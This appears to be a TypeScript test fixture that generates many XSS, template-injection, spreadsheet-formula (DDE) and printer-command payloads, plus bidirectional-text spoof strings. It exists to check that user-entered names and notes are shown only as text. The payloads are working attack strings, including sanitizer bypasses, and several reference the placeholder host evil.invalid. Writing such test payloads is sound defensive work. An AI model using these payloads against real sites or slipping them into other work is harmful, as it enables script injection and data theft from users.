/**
 * Attack strings that users may write into a name or a note. Each calls `__hit`, or requests
 * another host, if it is ever interpreted as anything but text.
 */
const hit = (number: number): string => `__hit(${number})`;
const elsewhere = '//evil.invalid';

// biome-ignore format: a table reads by the line
const events = [
  'load', 'error', 'focus', 'blur', 'click', 'mouseover', 'mouseenter', 'pointerover', 'pointerenter', 'pointerrawupdate',
  'animationstart', 'animationend', 'transitionend', 'transitionrun', 'toggle', 'beforetoggle', 'scroll', 'scrollend', 'wheel', 'resize',
  'input', 'change', 'select', 'selectionchange', 'search', 'reset', 'submit', 'invalid', 'copy', 'cut', 'paste', 'beforeprint', 'afterprint',
  'canplay', 'play', 'loadstart', 'loadedmetadata', 'timeupdate', 'cuechange', 'hashchange', 'popstate', 'message', 'storage', 'pageshow',
  'unhandledrejection', 'visibilitychange', 'begin', 'end', 'repeat', 'start', 'finish', 'bounce', 'contentvisibilityautostatechange', 'securitypolicyviolation',
];
// biome-ignore format: a table reads by the line
const schemes = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'vbscript:',
  'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4', 'blob:null/', 'feed:javascript:', 'view-source:javascript:', 'javascript://%0a', 'jar:javascript:',
];

// biome-ignore format: a table reads by the line
const markup: readonly ((call: string) => string)[] = [
  (x) => `<script>${x}</script>`, (x) => `<ScRiPt>${x}</sCrIpT>`, (x) => `<script src=${elsewhere}/${x}></script>`, (x) => `<scr<script>ipt>${x}</script>`,
  (x) => `<script/x>${x}</script/y>`, (x) => `<script type=module>${x}</script>`, (x) => `<img src=x onerror=${x}>`, (x) => `<img/src/onerror=${x}>`,
  (x) => `<img src=${elsewhere}/${x}>`, (x) => `<img srcset="${elsewhere}/a 1x" alt=${x}>`, (x) => `<svg onload=${x}>`, (x) => `<svg/onload=${x}//`,
  (x) => `<svg><script>${x}</script></svg>`, (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`, (x) => `<svg><use href="data:image/svg+xml,${x}">`,
  (x) => `<svg><a xlink:href=javascript:${x}><text y=9>x</text></a>`, (x) => `<svg><foreignObject><iframe srcdoc="<script>${x}</script>">`,
  (x) => `<svg><set attributeName=href to=javascript:${x}>`, (x) => `<math><a href=javascript:${x}>x</a></math>`, (x) => `<iframe srcdoc="<script>parent.${x}</script>">`,
  (x) => `<iframe src=javascript:${x}>`, (x) => `<object data=javascript:${x}>`, (x) => `<embed src=javascript:${x}>`, (x) => `<body onload=${x}>`,
  (x) => `<details open ontoggle=${x}>`, (x) => `<video><source onerror=${x}></video>`, (x) => `<audio src=x onerror=${x}>`, (x) => `<input autofocus onfocus=${x}>`,
  (x) => `<textarea autofocus onfocus=${x}>`, (x) => `<select autofocus onfocus=${x}>`, (x) => `<button popovertarget=p>${x}</button><p popover id=p onbeforetoggle=${x}>`,
  (x) => `<form action=javascript:${x}><button>x`, (x) => `<form><button formaction=javascript:${x}>`, (x) => `<meta http-equiv=refresh content="0;url=javascript:${x}">`,
  (x) => `<base href=${elsewhere}/${x}/>`, (x) => `<link rel=stylesheet href=${elsewhere}/${x}.css>`, (x) => `<link rel=preload as=script href=${elsewhere}/${x}.js>`,
  (x) => `<style>@import'${elsewhere}/${x}.css';</style>`, (x) => `<style>*{background:url(${elsewhere}/${x})}</style>`, (x) => `<marquee onstart=${x}>x`,
  (x) => `<template><script>${x}</script></template>`, (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">`, (x) => `<portal src=${elsewhere}/${x}>`,
  (x) => `<div style="position:fixed;inset:0;z-index:9999" onclick=${x}>`, (x) => `<dialog open onclose=${x}>`, (x) => `<a href=javascript:${x} autofocus>x</a>`,
];

// Breaking out of an attribute, a comment, a script, a style; through a sanitizer that repairs;
// templates of all kinds. biome-ignore format: a table reads by the line
const contexts: readonly ((call: string) => string)[] = [
  (x) => `"><img src=x onerror=${x}>`,
  (x) => `'><img src=x onerror=${x}>`,
  (x) => `" autofocus onfocus=${x} x="`,
  (x) => `' onmouseover=${x} x='`,
  (x) => `\` onload=${x} \``,
  (x) => `" style="x:expression(${x})`,
  (x) => `"/><script>${x}</script>`,
  (x) => `--><script>${x}</script><!--`,
  (x) => `--!><img src=x onerror=${x}>`,
  (x) => `]]><script>${x}</script>`,
  (x) => `</title><script>${x}</script>`,
  (x) => `</textarea><script>${x}</script>`,
  (x) => `</style><script>${x}</script>`,
  (x) => `</script><script>${x}</script>`,
  (x) => `</option></select><img src=x onerror=${x}>`,
  (x) => `</td></tr></table><svg onload=${x}>`,
  (x) => `';${x};//`,
  (x) => `";${x};//`,
  (x) => `\\';${x};//`,
  (x) => `\${${x}}`,
  (x) => `{{${x}}}`,
  (x) => `{{constructor.constructor('${x}')()}}`,
  (x) => `<%= ${x} %>`,
  (x) => `#{${x}}`,
  (x) => `[[\${${x}}]]`,
  (x) => `{%import os%}${x}`,
  (x) => `\u2028${x}\u2029`,
  (x) => `\\u003cimg src=x onerror=${x}\\u003e`,
  (x) => `&lt;img src=x onerror=${x}&gt;`,
  (x) => `&#60;img src=x onerror=${x}&#62;`,
  (x) => `%3Cimg%20src%3Dx%20onerror%3D${x}%3E`,
  (x) => `+ADw-script+AD4-${x}+ADw-/script+AD4-`,
  (x) => `＜img src=x onerror=${x}＞`,
  (x) => `<\u0301script>${x}</script>`,
  (x) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${x}&gt;">`,
  (x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x}>`,
  (x) => `<noembed><img title="</noembed><img src onerror=${x}>"></noembed>`,
  (x) => `<xmp><p title="</xmp><svg/onload=${x}>">`,
  (x) => `<listing>&lt;img src onerror=${x}&gt;</listing>`,
  (x) => `<a id=__proto__ name=${x}><a id=__proto__ name=b>`,
  (x) => `{"__html":"<img src=x onerror=${x}>"}`,
  (x) => `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${x}>"}}`,
  (x) => `[x](javascript:${x})`,
  (x) => `![x](${elsewhere}/${x})`,
];

// Spreadsheet programs read these as formulas, printer languages as commands.
const files: readonly ((call: string) => string)[] = [
  (x) => `=HYPERLINK("${elsewhere}/${x}","x")`,
  (x) => `=cmd|'/C ${x}'!A0`,
  (x) => `+IMPORTXML("${elsewhere}",${x})`,
  (x) => `-2+3+cmd|' /C ${x}'!A0`,
  (x) => `@SUM(${x})`,
  (x) => `\t=${x}`,
  (x) => `\r=${x}`,
  (x) => `;=${x}`,
  (x) => `"=${x}`,
  (x) => `^XA^FD${x}^FS^XZ`,
  (x) => `\u001b@${x}`,
];

export const scripts: readonly string[] = [
  ...markup,
  ...contexts,
  ...files,
  ...events.map((event) => (x: string) => `<b tabindex=0 on${event}=${x}>`),
  ...schemes.map((scheme) => (x: string) => `<a href="${scheme}${x}">x</a>`),
  ...schemes.map((scheme) => (x: string) => `${scheme}${x}`),
  ...events.slice(0, 12).map((event) => (x: string) => `" on${event}="${x}`),
].map((make, number) => make(hit(number)));

/** Characters that reverse text or are invisible: the text next to them must remain readable. */
export const spoofs: readonly string[] = [
  '\u202e00052',
  'احمد\u202e25,000',
  '\u202d\u202e\u202d',
  '\u2067\u2067\u2067مفتوح',
  '\u2066abc',
  '\u2068\u202e\u2066',
  '\u202b(077',
  'x\u200f-\u200f5',
  '\u061c\u200e\u200f',
  '\u2069\u2069\u202c\u202c',
  '٠٧٧٠١٢٣',
  'abc אבג 123',
  '\u0663\u202e\u0664',
  '-\u200f500',
  '\u202a\u202b\u202a\u202b',
];

/** All of them, in pieces that fit into a field. */
export function pieces(all: readonly string[], longest: number): string[] {
  const made: string[] = [];
  let piece = '';
  for (const one of all) {
    if (one.length > longest) continue;
    if (piece !== '' && piece.length + one.length + 1 > longest) {
      made.push(piece);
      piece = '';
    }
    piece = piece === '' ? one : `${piece} ${one}`;
  }
  return piece === '' ? made : [...made, piece];
}
